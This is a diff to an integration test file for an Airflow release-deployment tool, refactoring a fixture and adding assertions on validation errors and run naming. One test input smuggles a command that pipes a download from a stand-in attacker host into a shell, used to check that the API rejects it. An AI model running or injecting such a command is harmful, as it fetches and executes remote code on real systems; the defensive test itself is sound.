@@ -16,8 +16,10 @@ from pathlib import Path
 import pytest
 
 from tests.support import local_airflow
-from tests.support.airflow_cluster import AirflowApi, admin_password, api_call, login, wait_until_healthy
+from tests.support.airflow_cluster import AirflowApi, api_call, login
 from tests.support.stack import gateway_versions
+from varai_deploy.config import VERSION_PATTERN
+from varai_deploy.run_requests import PATTERN_WORDS
 from varai_deploy.services import SERVICE_NAMES
 
 pytestmark = pytest.mark.integration
@@ -35,23 +37,9 @@ def call(
 
 @pytest.fixture(scope="module")
 def airflow_api(stack, sandbox):
-    log = Path(stack["VARAI_AIRFLOW_HOME"]) / "make-airflow.log"
-    env = {
-        **os.environ,
-        "AIRFLOW__API__PORT": str(API_PORT),
-        "AIRFLOW_CONN_VARAI_ALERT_WEBHOOK": json.dumps({"conn_type": "generic", "password": WEBHOOK_TOKEN}),
-    }
-    proc = local_airflow.start(env, log)  # what `make airflow` runs
-    try:
-
-        def alive() -> None:
-            assert proc.poll() is None, log.read_text()[-3000:]
-
-        wait_until_healthy(API, timeout=120, check=alive, describe=lambda: log.read_text()[-3000:], what="make airflow")
-        passwords = Path(stack["VARAI_AIRFLOW_HOME"]) / "simple_auth_manager_passwords.json.generated"
-        yield login(API, admin_password(passwords))
-    finally:
-        local_airflow.stop(proc)
+    webhook = {"AIRFLOW_CONN_VARAI_ALERT_WEBHOOK": json.dumps({"conn_type": "generic", "password": WEBHOOK_TOKEN})}
+    with local_airflow.running(Path(stack["VARAI_AIRFLOW_HOME"]), API_PORT, webhook) as password:  # make airflow
+        yield login(API, password)
 
 
 def wait_for_dag(token: str) -> None:
@@ -72,7 +60,18 @@ def test_bad_params_are_refused_with_400_and_no_run(airflow_api):
         {"logical_date": None, "conf": {"version": "v2.0.0; curl evil.example | sh"}},
     )
     assert status == 400
-    assert "Invalid input for param version" in body["detail"]
+    assert body["detail"].startswith("Invalid input for param version: 'v2.0.0; curl evil.example | sh' is not")
+    # Said in words, as the form's error toast shows it: not jsonschema's regex and schema dump.
+    status, body = call(
+        "POST",
+        "/api/v2/dags/ai_discovery_release/dagRuns",
+        airflow_api,
+        {"logical_date": None, "conf": {"version": "1.0"}},
+    )
+    assert (status, body["detail"]) == (
+        400,
+        f"Invalid input for param version: '1.0' is not {PATTERN_WORDS[VERSION_PATTERN]}",
+    )
     assert release_runs(airflow_api) == before
 
 
@@ -139,6 +138,9 @@ def test_a_firing_alert_rolls_the_labelled_service_back(airflow_api, sandbox):
         {"logical_date": None, "conf": {"version": "v1.2.1", "services": ["analytics"], "marketplaces": []}},
     )
     assert status == 200, run
+    # Given no id, the run is named by what it does, and its note (the run's header) says so.
+    assert run["dag_run_id"].startswith("release__v1.2.1__sandbox__"), run
+    assert run["note"] == "Release v1.2.1 to sandbox: analytics, backend only (no widgets)"
     assert wait_for_run(airflow_api, "ai_discovery_release", run["dag_run_id"]) == "success"
     slots = sandbox.status()["services"]["analytics"]
     previous, live = slots["idle"], slots["live"]["version"]
